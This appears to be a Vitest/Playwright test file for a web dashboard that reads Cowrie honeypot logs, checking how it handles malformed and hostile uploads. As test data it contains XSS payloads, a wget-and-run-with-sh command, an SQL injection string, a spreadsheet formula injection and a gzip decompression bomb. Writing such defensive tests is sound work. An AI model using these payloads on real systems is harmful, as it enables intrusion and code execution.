import {createHash} from "node:crypto";
import {gzipSync} from "node:zlib";
import {describe, expect, it} from "vitest";
import {type GivenFile, logFile, openLogs} from "./open-logs.js";
import {openPage, settle} from "./open-page.js";
import {useTestedSite} from "./tested-site.js";

const site = useTestedSite();

const login = (more: object = {}, second = 0) =>
  JSON.stringify({
    eventid: "cowrie.login.failed",
    timestamp: `2026-03-01T12:30:${String(second).padStart(2, "0")}.000000Z`,
    src_ip: "198.51.100.7",
    session: "0123456789ab",
    username: "root",
    password: "1234",
    protocol: "ssh",
    sensor: "sensor",
    ...more
  });
const logins = (count: number) => Array.from({length: count}, (_, i) => login({}, i)).join("\n");

/** Logins that do not compress to nothing. */
const many = Array.from({length: 2000}, (_, i) =>
  login({session: createHash("md5").update(String(i)).digest("hex").slice(0, 12)}, i % 60)
).join("\n");

/** Opens files, and says what the dialog said and what the Data page shows of them then. */
async function open(files: GivenFile[]) {
  const {page, errors, foreignRequests, close} = await openPage(site.browser, `${site.url}data.html`);
  const said = await openLogs(page, files);
  await page.goto(`${site.url}data.html`, {waitUntil: "load"});
  await settle(page);
  const rows = await page.getByTestId("chart-files").locator("tbody tr").allInnerTexts();
  const account = (await page.getByTestId("account").textContent()) ?? "";
  expect(foreignRequests).toEqual([]);
  expect(errors).toEqual([]);
  return {page, said: said ?? "", rows, account, close};
}

describe("logs that are not as they should be", () => {
  it("are counted, and what is wrong with which file is said", async () => {
    const {said, rows, account, close} = await open([
      logFile("good.json", logins(5)),
      logFile("again.json", logins(5)),
      logFile("half.json", `${logins(3)}\n{"eventid": "cowrie.login.fai`),
      logFile("cut.json.gz", gzipSync(many).subarray(0, 4000)),
      logFile("picture.png", Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0])),
      logFile("notes.txt", "Dear diary,\ntoday nothing happened.\n"),
      logFile("empty.log", "")
    ]);
    expect(said).toContain("good.json: same content as again.json; read once");
    expect(said.split("read once")).toHaveLength(2);
    expect(said).toContain("half.json: 1 of 4 records not understood");
    expect(said).toContain("1 record: not JSON");
    expect(said).toContain("1 file read without problems: 1 Cowrie");
    expect(said).toContain("Something to know about 6 of 7 files");
    expect(said).toMatch(/cut\.json\.gz[^\n]*\n(.*\n)?the gzip is cut short after [\d,]+ bytes of content/);
    expect(said).toContain("picture.png: not recognised as any log");
    expect(said).toContain("notes.txt: not recognised as any log");
    expect(rows).toHaveLength(7);
    expect(account).toContain("records");
    await close();
  });

  it("are read as far as a limit allows when they are decompression bombs", async () => {
    const bomb = gzipSync(`${logins(3)}${"\n".repeat(80 << 20)}${login()}`, {level: 9});
    expect(bomb.length).toBeLessThan(1 << 20);
    const {said, rows, close} = await open([logFile("bomb.json.gz", bomb)]);
    expect(`${said}${rows.join()}`).toContain("decompression bomb");
    expect(`${said}${rows.join()}`).toContain("what follows is not read");
    await close();
  }, 180_000);

  it("may have huge lines, NUL bytes and names that are markup", async () => {
    const name = "<img src=x onerror=document.title='broken'>.json";
    const huge = login({password: "x".repeat(3 << 20)});
    const {page, said, rows, close} = await open([
      logFile(name, `${logins(4)}\n\0\0\0\n${huge}\n${login({username: "\u202eroot\u0007"})}`)
    ]);
    expect(rows.join()).toContain(name);
    expect(said).not.toContain("undefined");
    expect(await page.title()).not.toBe("broken");
    await close();
  });

  it("show their text as text, wherever it is shown", async () => {
    const markup = `<script>document.title = "broken"</script><img src=x onerror="document.title='broken'">`;
    const {page, close} = await open([
      logFile(
        "hostile.json",
        [
          login({username: markup, password: markup}),
          login({eventid: "cowrie.command.input", input: `wget http://203.0.113.5/${markup}; sh`}, 1),
          login({eventid: "cowrie.login.success", username: "'; DROP TABLE events; --"}, 2),
          login({eventid: "cowrie.command.input", input: "\u001b[31mred\u001b[0m =cmd|'/c calc'!A1"}, 3)
        ].join("\n")
      )
    ]);
    for (const path of ["index", "alerts", "sessions"]) {
      await page.goto(`${site.url}${path}.html`, {waitUntil: "load"});
      await settle(page);
      expect(await page.title()).not.toBe("broken");
      expect(await page.locator("main img[src=x], main script:not([type=module])").count()).toBe(0);
      expect(await page.locator(".observablehq--error").count()).toBe(0);
    }
    await close();
  });
});
